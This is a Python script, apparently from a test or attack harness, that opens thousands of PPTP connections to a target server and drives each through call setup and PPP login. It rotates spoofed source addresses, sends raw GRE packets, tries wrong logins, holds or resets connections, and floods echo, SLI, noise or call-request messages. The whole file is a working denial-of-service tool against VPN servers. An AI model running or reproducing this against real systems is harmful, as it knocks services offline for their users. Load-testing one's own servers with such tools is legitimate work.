# SPDX-License-Identifier: Apache-2.0
"""Many PPTP connections by one attacker: how far each goes, and what it does then.

  caller.py TARGET SECONDS RATE [--sources N] [--open N] [--until STAGE] [--then WHAT] ...

RATE: connections a second, 0: as many as can be made. Prints what it did as JSON.
"""
import argparse
import collections
import errno
import ipaddress
import json
import pathlib
import random
import resource
import selectors
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2]))
from assaults.programs import ppp  # noqa: E402
from attacks.pptp import MAGIC, echo_request, message, ocrq, sccrq  # noqa: E402

PORT, GRE, IP_FREEBIND = 1723, 47, 15
FIRST_SOURCE = int(ipaddress.ip_address("10.97.0.1"))
STAGES = ("tcp", "sccrq", "ocrq", "lcp", "auth", "up")


def arguments():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("seconds", type=float)
    parser.add_argument("rate", type=float)
    parser.add_argument("--sources", type=int, default=1)
    parser.add_argument("--open", type=int, default=2000, help="connections at once; a new one follows each that ends")
    parser.add_argument("--until", choices=STAGES, default="tcp", help="how far a connection goes")
    parser.add_argument("--then", choices=("hold", "close", "reset"), default="hold")
    parser.add_argument("--login", choices=("pap", "wrong-pap", "wrong-mschap"))
    parser.add_argument("--octets", action="store_true", help="every message octet by octet")
    parser.add_argument("--flood", choices=("echo", "sli", "noise", "ocrq"), help="sent again and again once it is there")
    parser.add_argument("--burst", type=int, default=50, help="messages of a flood in one turn of a connection")
    parser.add_argument("--messages", type=float, default=0, help="of a flood, a second at most")
    parser.add_argument("--again", type=float, default=0, help="seconds after which LCP is negotiated anew")
    return parser.parse_args()


class Line:
    """One connection and its call."""

    def __init__(self, stream, source, call_id):
        self.stream, self.source, self.call_id = stream, source, call_id
        self.stage, self.their_id, self.sequence = "connecting", None, 0
        self.received, self.waiting, self.ppp, self.renewed = b"", b"", None, 0.0


class Caller:
    def __init__(self, options):
        self.options = options
        self.selector = selectors.DefaultSelector()
        self.lines, self.by_call, self.counts = {}, {}, collections.Counter()
        self.next_source, self.next_call = 0, random.randrange(1, 65536)
        self.goal = STAGES.index(options.until)
        self.raw_in = self.raw_out = None
        if self.goal >= STAGES.index("lcp"):
            self.raw_in = socket.socket(socket.AF_INET, socket.SOCK_RAW, GRE)
            self.raw_in.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
            self.raw_in.setblocking(False)
            self.raw_out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            self.selector.register(self.raw_in, selectors.EVENT_READ)
        flood = {"echo": echo_request(), "sli": message(15, b"\0\0"), "noise": bytes(range(64, 128)), "ocrq": ocrq(7), None: b""}
        self.flood = flood[options.flood] * options.burst

    # ---- connections ---------------------------------------------------------------------------------------------

    def dial(self):
        source = self._source()
        stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        stream.setblocking(False)
        stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        stream.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
        if self.options.then == "reset" or self.options.until == "tcp":
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            if source:
                stream.bind((source, 0))
            error = stream.connect_ex((self.options.target, PORT))
        except OSError as refused:
            error = refused.errno
        if error not in (0, errno.EINPROGRESS):
            self.counts["not started"] += 1
            stream.close()
            return
        self.next_call = self.next_call % 65535 + 1
        line = Line(stream, stream.getsockname()[0], self.next_call)
        self.lines[stream] = line
        self.counts["started"] += 1
        self.selector.register(stream, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def _source(self):
        if self.options.sources == 1:
            return None
        self.next_source = (self.next_source + 1) % self.options.sources
        return str(ipaddress.ip_address(FIRST_SOURCE + self.next_source))

    def end(self, line, why):
        self.counts[why] += 1
        self.selector.unregister(line.stream)
        line.stream.close()
        self.lines.pop(line.stream, None)
        self.by_call.pop((line.source, line.call_id), None)

    # ---- what a line says ----------------------------------------------------------------------------------------

    def reach(self, line, stage):
        line.stage = stage
        self.counts[f"reached {stage}"] += 1
        at = STAGES.index(stage)
        if at >= self.goal:
            if self.options.then in ("close", "reset"):
                self.end(line, "closed by us")
        elif stage == "tcp":
            self.say(line, sccrq())
        elif stage == "sccrq":
            self.say(line, ocrq(line.call_id))
        elif stage == "ocrq":
            line.ppp = ppp.Client(self.options.login)
            self.by_call[(line.source, line.call_id)] = line
            self.send(line, line.ppp.start())

    def say(self, line, octets):
        line.waiting += octets
        self.flush(line)

    def flush(self, line):
        """In one piece, or an octet for each turn of the loop."""
        if not line.waiting:
            return
        try:
            sent = line.stream.send(line.waiting[:1] if self.options.octets else line.waiting)
            line.waiting = line.waiting[sent:]
            self.counts["segments"] += 1
        except BlockingIOError:
            pass

    def send(self, line, frames):
        for payload in frames:
            packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 12 + len(payload), 0, 0, 64, GRE, 0,
                                 socket.inet_aton(line.source), socket.inet_aton(self.options.target))
            packet += struct.pack("!BBHHHI", 0x30, 1, 0x880B, len(payload), line.their_id, line.sequence) + payload
            line.sequence += 1
            self.raw_out.sendto(packet, (self.options.target, 0))

    # ---- what it hears -------------------------------------------------------------------------------------------

    def hear(self, line):
        octets = line.stream.recv(65536)
        if not octets:
            raise ConnectionResetError
        line.received += octets
        while len(line.received) >= 12:
            length, _, magic, kind = struct.unpack("!HHIH", line.received[:10])
            if magic != MAGIC or length < 12 or len(line.received) < length:
                break
            body, line.received = line.received[:length], line.received[length:]
            if kind == 2 and line.stage == "tcp":
                self.reach(line, "sccrq")
            elif kind == 8 and line.stage == "sccrq":
                if body[16] != 1:
                    self.counts[f"call refused {body[16]}/{body[17]}"] += 1
                    return self.end(line, "refused")
                line.their_id = struct.unpack("!H", body[12:14])[0]
                self.reach(line, "ocrq")
            if line.stream not in self.lines:
                return None
        return None

    def hear_frames(self):
        for _ in range(200):
            try:
                packet = self.raw_in.recv(2048)
            except BlockingIOError:
                return
            flags, version, _, length, call_id = struct.unpack("!BBHHH", packet[20:28])
            payload = packet[28 + (4 if flags & 0x10 else 0) + (4 if version & 0x80 else 0):]
            line = self.by_call.get((socket.inet_ntoa(packet[16:20]), call_id))
            if line is None or not length:
                continue
            before = line.ppp.state
            self.send(line, line.ppp.on(payload))
            if line.ppp.state != before:
                self.counts[f"ppp {line.ppp.state}"] += 1
                self.moved(line)

    def moved(self, line):
        if line.ppp.state == "auth" and line.stage == "ocrq":
            line.stage = "lcp"
            line.renewed = time.monotonic()
        if line.ppp.state == "up" and self.options.then != "hold":
            self.end(line, "closed by us")
        elif line.ppp.state in ("refused", "terminated"):
            self.end(line, line.ppp.state)

    # ---- the loop ------------------------------------------------------------------------------------------------

    def turn(self, stream, mask):
        line = self.lines.get(stream)
        if line is None:
            return
        try:
            if line.stage == "connecting" and mask & selectors.EVENT_WRITE:
                if error := stream.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    raise OSError(error, "connect")
                self.reach(line, "tcp")
            if stream in self.lines and mask & selectors.EVENT_READ:
                self.hear(line)
            if stream in self.lines:
                self.pour(line)
        except OSError:
            self.end(line, "ended by them")

    def pour(self, line):
        """The flood of a line that is where it wanted to be."""
        self.flush(line)
        there = line.stage in STAGES and STAGES.index(line.stage) >= self.goal
        most = self.options.messages
        slow = most and self.counts["messages"] > most * (time.monotonic() - self.began)
        if there and self.flood and not line.waiting and not slow:
            line.waiting = self.flood
            self.counts["messages"] += self.options.burst
            self.flush(line)
        wants = selectors.EVENT_READ
        if line.stage == "connecting" or line.waiting or (there and self.flood):
            wants |= selectors.EVENT_WRITE
        if self.selector.get_key(line.stream).events != wants:
            self.selector.modify(line.stream, wants)

    def renew(self, now):
        for line in list(self.by_call.values()):
            if line.stage == "lcp" and now - line.renewed >= self.options.again:
                line.renewed = now
                self.counts["negotiated anew"] += 1
                self.send(line, line.ppp.start())

    def run(self):
        began = renewed = self.began = time.monotonic()
        while (now := time.monotonic()) - began < self.options.seconds:
            due = (now - began) * self.options.rate if self.options.rate else self.counts["started"] + self.counts["not started"] + 64
            for _ in range(64):
                if self.counts["started"] + self.counts["not started"] >= due or len(self.lines) >= self.options.open:
                    break
                self.dial()
            for key, mask in self.selector.select(0.002):
                self.hear_frames() if key.fileobj is self.raw_in else self.turn(key.fileobj, mask)
            if self.options.again and now - renewed > 0.2:
                renewed = now
                self.renew(now)
        return time.monotonic() - began

    def report(self, seconds):
        unit = "messages" if self.flood else "connections"
        rate = self.counts["messages" if self.flood else "started"] / seconds
        note = ", ".join(f"{count} {what}" for what, count in sorted(self.counts.items()))
        print(json.dumps({"rate": rate, "dials": self.counts["started"] / seconds, "unit": unit, "note": f"{len(self.lines)} open; {note}"}))


if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    caller = Caller(arguments())
    caller.report(caller.run())
